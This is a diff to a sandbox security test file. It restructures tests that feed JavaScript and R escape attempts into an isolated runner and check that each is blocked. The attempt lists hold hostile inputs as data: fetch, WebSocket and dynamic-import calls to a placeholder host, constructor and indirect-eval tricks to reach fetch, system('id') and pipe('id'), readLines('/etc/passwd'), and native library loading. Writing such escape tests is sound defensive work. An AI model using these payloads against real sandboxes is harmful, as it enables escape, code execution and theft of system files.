@@ -144,17 +144,25 @@ test.describe('escapes from SQL', () => {
 })
 
 test.describe('escapes from the other languages', () => {
-  const r = (body: string): [SandboxLanguage, string, string] => ['r', body, `f <- function() {\n  ${body}\n}`]
   const javascript = (body: string): [SandboxLanguage, string, string] => ['javascript', body, `function f() {\n  return ${body}\n}`]
-  const attempts: [SandboxLanguage, string, string][] = [
-    ...['fetch("http://HOST/")', 'new XMLHttpRequest()', 'new WebSocket("ws://HOST/")', 'new EventSource("http://HOST/")', 'importScripts("http://HOST/")', 'import("http://HOST/x.js")',
+  const attempts = [
+    'fetch("http://HOST/")', 'new XMLHttpRequest()', 'new WebSocket("ws://HOST/")', 'new EventSource("http://HOST/")', 'importScripts("http://HOST/")', 'import("http://HOST/x.js")',
       'navigator.sendBeacon("http://HOST/", "x")', 'new RTCPeerConnection()', 'Object.assign(new Image(), { src: "http://HOST/" })', 'new FontFace("x", "url(http://HOST/)").load()', 'new Worker("x.js")',
       'new SharedWorker("x.js")', 'require("fs")', 'process.env', 'window.parent', 'parent.document', 'self.postMessage(1)', 'postMessage({ type: "case" })', 'indexedDB.open("x")',
-      '[].constructor.constructor("return fetch")()("http://HOST/")', 'console.log.constructor("return fetch")()("http://HOST/")', '(0, eval)("fetch")("http://HOST/")'].map(javascript),
-    ...['download.file("http://HOST/", "x")', 'readLines(url("http://HOST/"))', 'webr::eval_js("1 + 1")', 'webr::eval_js("fetch(\'http://HOST/\')")', 'readLines(socketConnection("127.0.0.1", PORT, timeout = 1))',
+      '[].constructor.constructor("return fetch")()("http://HOST/")', 'console.log.constructor("return fetch")()("http://HOST/")', '(0, eval)("fetch")("http://HOST/")',
+  ].map(javascript)
+  const inR = ['download.file("http://HOST/", "x")', 'readLines(url("http://HOST/"))', 'webr::eval_js("1 + 1")', 'webr::eval_js("fetch(\'http://HOST/\')")', 'readLines(socketConnection("127.0.0.1", PORT, timeout = 1))',
       'install.packages("x", repos = "http://HOST/", quiet = TRUE); stop("got nowhere")', 'system("id", intern = TRUE)', 'readLines(pipe("id"))', 'readLines("/etc/passwd")',
-      'dyn.load("/usr/lib/R/library/webr/libs/webr.so")', 'webr::mount("/x", "http://HOST/x.data"); stop("got nowhere")'].map(r),
-  ]
+      'dyn.load("/usr/lib/R/library/webr/libs/webr.so")', 'webr::mount("/x", "http://HOST/x.data"); stop("got nowhere")']
+  test('r: each of them gets nowhere', async ({ shown, site }) => {
+    const [before, asked] = [site.canary.connections(), site.asked.length]
+    const code = `tries <- list(${inR.map((body) => `function() {\n  ${body}\n}`).join(', ')})\nf <- function(index) tries[[index]]()`.replaceAll('HOST', `${site.canary.host}:${site.canary.port}`).replaceAll('PORT', String(site.canary.port))
+    const all = await run(shown, 'r', { code, cases: inR.map((body, index) => ({ caseId: body, args: [index + 1] })) }, 15_000)
+    expect(all.map((one) => one.caseId)).toEqual(inR)
+    for (const produced of all) expect(produced.outcome, JSON.stringify(produced)).toMatch(/^(raised|memory)$/)
+    expect(site.canary.connections()).toBe(before)
+    expect(site.asked).toHaveLength(asked)
+  })
   for (const [language, name, code] of attempts) {
     test(`${language}: ${name} gets nowhere`, async ({ shown, site }) => {
       const [before, asked] = [site.canary.connections(), site.asked.length]
